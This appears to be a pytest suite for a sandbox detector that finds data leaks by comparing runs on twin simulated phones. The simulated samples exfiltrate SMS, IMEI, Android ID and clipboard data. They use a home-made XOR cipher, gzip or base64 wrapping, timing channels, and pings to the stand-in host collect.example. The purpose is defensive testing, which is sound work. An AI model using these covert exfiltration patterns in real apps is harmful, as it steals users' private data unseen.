"""What a set of runs proves: ciphers that nothing reads are found with their class, randomness is not."""

import base64
import gzip
import json
import random
import uuid
import zlib

import pytest
from twin_sets import NOW_MS, Device, Twins

from sandbox.detect.twin.model import Aspect
from sandbox.detect.twin.questions import MOST_PARTIAL, Kind
from sandbox.persona.generate import generate
from sandbox.persona.model import DataClass

_READ = (DataClass.IMEI, DataClass.SMS_BODY, DataClass.ANDROID_ID)


def _own_cipher(nonce: bytes, plain: bytes) -> bytes:
    """A key stream of the nonce and a secret, as malware writes it."""
    stream = random.Random(nonce + b"secret").randbytes(len(plain))
    return nonce + bytes(a ^ b for a, b in zip(plain, stream, strict=True))


def _texts(device: Device) -> bytes:
    return "\n".join(text.body for text in device.owner.sms).encode()


def test_a_cipher_of_ones_own_over_texts_is_found_with_its_class() -> None:
    def sample(device: Device) -> None:
        device.post(_own_cipher(device.random.randbytes(16), _texts(device)))

    (found,) = Twins(sample, _READ).found()
    assert found.classes == (DataClass.SMS_BODY,)
    assert (found.random, found.steady, found.proven) == (True, True, True)
    assert found.slot.message == "body"
    ((request, differences),) = found.places
    assert min(one.first for one in differences) >= 16, "the nonce is none of the owner's"
    assert max(one.last for one in differences) <= len(request.data)


def test_a_cipher_without_a_nonce_is_found_too() -> None:
    def sample(device: Device) -> None:
        device.connect(_own_cipher(b"", device.owner.identity.imei.encode() * 3))

    (found,) = Twins(sample, _READ).found()
    assert (found.classes, found.random, found.proven) == ((DataClass.IMEI,), False, True)


def test_two_classes_in_one_cipher_are_both_named() -> None:
    def sample(device: Device) -> None:
        plain = device.owner.identity.imei.encode() + device.owner.identity.android_id.encode()
        device.post(_own_cipher(device.random.randbytes(8), plain))

    found = Twins(sample, _READ).found()
    assert {name for one in found for name in one.classes} == {DataClass.IMEI, DataClass.ANDROID_ID}
    assert all(one.proven for one in found)


def test_a_class_is_found_where_the_device_told_no_reads() -> None:
    def sample(device: Device) -> None:
        device.post(_own_cipher(device.random.randbytes(16), device.owner.clipboard.encode()))

    twins = Twins(sample, ())
    (found,) = twins.found()
    assert found.classes == (DataClass.CLIPBOARD,)
    assert sum(question.kind is Kind.PARTIAL for question in twins.asked) <= MOST_PARTIAL


def test_an_identifier_alone_is_enough_in_many_requests() -> None:
    def sample(device: Device) -> None:
        for at in range(5):
            nonce = device.random.randbytes(8)
            device.post(_own_cipher(nonce, device.owner.identity.imei.encode()), at=100.0 + at)

    (found,) = Twins(sample, _READ).found()
    assert len(found.places) == 5
    assert found.confidence > 0.99


def test_nonces_and_time_stamps_cost_one_more_run_and_are_no_finding() -> None:
    def sample(device: Device) -> None:
        for at in range(20):
            body = {"nonce": device.random.randbytes(64).hex(), "id": str(uuid.UUID(int=7)), "at": at}
            device.post(json.dumps(body).encode(), at=float(at))
            device.connect(device.random.randbytes(500), at=float(at))

    twins = Twins(sample, _READ)
    assert twins.found() == []
    assert [question.kind for question in twins.asked] == [Kind.OTHER]


def test_randomness_that_nobody_seeds_is_noise() -> None:
    noise = random.Random(99)

    def sample(device: Device) -> None:
        for at in range(10):
            device.post(noise.randbytes(300), at=float(at))

    twins = Twins(sample, _READ)
    assert twins.found() == []
    assert [question.kind for question in twins.asked] == [Kind.OTHER, Kind.CONTROL]


def test_a_difference_that_comes_once_is_not_held_against_the_owner() -> None:
    runs = iter(range(100))

    def sample(device: Device) -> None:
        odd = next(runs) == 1  # the run with the other owner, and never again
        device.post(b"A" * 100 if odd else b"B" * 100)

    twins = Twins(sample, _READ)
    assert twins.found() == []
    assert twins.asked[-1].kind is Kind.RESEEDED or twins.asked[-1].kind is Kind.AGAIN


def test_what_was_found_in_plain_text_is_no_finding_of_the_twins() -> None:
    def sample(device: Device) -> None:
        texts = [{"from": text.address, "body": text.body} for text in device.owner.sms]
        device.post(json.dumps(texts).encode())
        device.post(gzip.compress(device.owner.identity.imei.encode() * 2, mtime=0), at=101.0)

    twins = Twins(sample, _READ)
    assert twins.found() == []


def test_readable_fields_beside_canaries_are_told_with_them() -> None:
    def sample(device: Device) -> None:
        calls = [{"n": call.number, "s": call.duration_s, "t": call.type} for call in device.owner.calls]
        device.post(json.dumps(calls).encode())

    assert Twins(sample, (DataClass.CALL_LOG,)).found() == []


def test_a_cipher_beside_a_plain_leak_of_another_class_is_found() -> None:
    def sample(device: Device) -> None:
        hidden = base64.b64encode(_own_cipher(device.random.randbytes(12), _texts(device))).decode()
        device.post(json.dumps({"imei": device.owner.identity.imei, "blob": hidden}).encode())

    found = Twins(sample, _READ).found()
    assert DataClass.SMS_BODY in {name for one in found for name in one.classes if one.proven}


def test_a_cipher_inside_of_a_packed_body_is_found() -> None:
    def sample(device: Device) -> None:
        head = b"a report of the day, in plain words, with nothing in it at all\n" * 3
        device.post(gzip.compress(head + _own_cipher(b"n" * 8, _texts(device)), mtime=0))

    (found,) = Twins(sample, _READ).found()
    assert found.classes == (DataClass.SMS_BODY,)
    assert found.chain == ("gzip",)


def test_a_request_that_only_one_owner_causes_is_flagged_and_not_proven() -> None:
    def sample(device: Device) -> None:
        for bit in range(16):
            digit = int(device.owner.identity.imei[8 + bit % 6])
            if digit >> (bit % 3) & 1:
                device.post(b"ping", at=200.0 + 60 * bit, url=f"https://collect.example/p{bit % 3}")

    found = Twins(sample, _READ).found()
    assert {one.aspect for one in found} == {Aspect.PRESENCE}
    assert {one.classes for one in found} == {(DataClass.IMEI,)}
    assert not any(one.proven for one in found)


def test_times_that_carry_data_are_flagged() -> None:
    def sample(device: Device) -> None:
        for at, digit in enumerate(device.owner.identity.imei):
            device.post(b"ping", at=100.0 * at + int(digit))

    found = Twins(sample, _READ).found()
    assert [(one.aspect, one.classes, one.proven) for one in found] == [
        (Aspect.TIME, (DataClass.IMEI,), False)
    ]


def test_one_late_run_is_no_timing_channel() -> None:
    runs = iter(range(100))

    def sample(device: Device) -> None:
        late = 3.0 if next(runs) == 1 else 0.0
        for at in range(10):
            device.post(b"ping", at=100.0 * at + late)

    assert Twins(sample, _READ).found() == []


def test_a_figure_of_two_bytes_is_not_called_a_leak() -> None:
    def sample(device: Device) -> None:
        figure = zlib.crc32(device.owner.clipboard.encode()) & 0xFFFF
        device.connect(b"status " + figure.to_bytes(2, "big"))

    (found,) = Twins(sample, (DataClass.CLIPBOARD,)).found()
    assert (found.classes, found.proven) == ((DataClass.CLIPBOARD,), False)


def test_a_run_out_of_step_names_no_class_of_its_own() -> None:
    runs = iter(range(100))

    def sample(device: Device) -> None:
        if next(runs) == 3:  # the first with some data changed, of a class that is not sent
            device.random.randbytes(7)
        for at in range(3):
            nonce = device.random.randbytes(16)
            device.post(_own_cipher(nonce, device.owner.identity.imei.encode()), at=float(at))

    (found,) = Twins(sample, _READ).found()
    assert (found.classes, found.proven) == ((DataClass.IMEI,), True)


def test_one_request_with_the_one_thing_that_was_read_is_tried_until_it_is_sure() -> None:
    def sample(device: Device) -> None:
        device.post(_own_cipher(device.random.randbytes(16), device.owner.identity.imei.encode()))

    twins = Twins(sample, (DataClass.IMEI,))
    (found,) = twins.found()
    assert (found.classes, found.proven) == ((DataClass.IMEI,), True)
    assert len(twins.asked) == 6


def test_random_numbers_out_of_step_are_not_called_a_leak() -> None:
    def sample(device: Device) -> None:
        device.random.randbytes(sum(map(ord, device.owner.clipboard)) % 50)
        device.post(device.random.randbytes(200))

    found = Twins(sample, (DataClass.CLIPBOARD,)).found()
    assert not any(one.proven for one in found)


@pytest.mark.parametrize("count", [1, 40])
def test_more_requests_make_it_surer(count: int) -> None:
    def sample(device: Device) -> None:
        for at in range(count):
            device.post(_own_cipher(device.random.randbytes(8), _texts(device)[:200]), at=float(at))

    (found,) = Twins(sample, _READ).found()
    assert found.confidence >= (0.9 if count == 1 else 0.999)


def test_requests_that_only_the_other_owner_causes_are_told_as_such() -> None:
    runs = iter(range(100))

    def sample(device: Device) -> None:
        base = next(runs) in (0, 2)  # the first owner and its control
        if not base and device.owner.identity.imei != generate(5, NOW_MS).identity.imei:
            device.post(b"ping", url="https://collect.example/only")

    found = Twins(sample, _READ).found()
    assert {(one.aspect, one.added, one.proven) for one in found} == {(Aspect.PRESENCE, True, False)}
    assert {one.classes for one in found} == {(DataClass.IMEI,)}
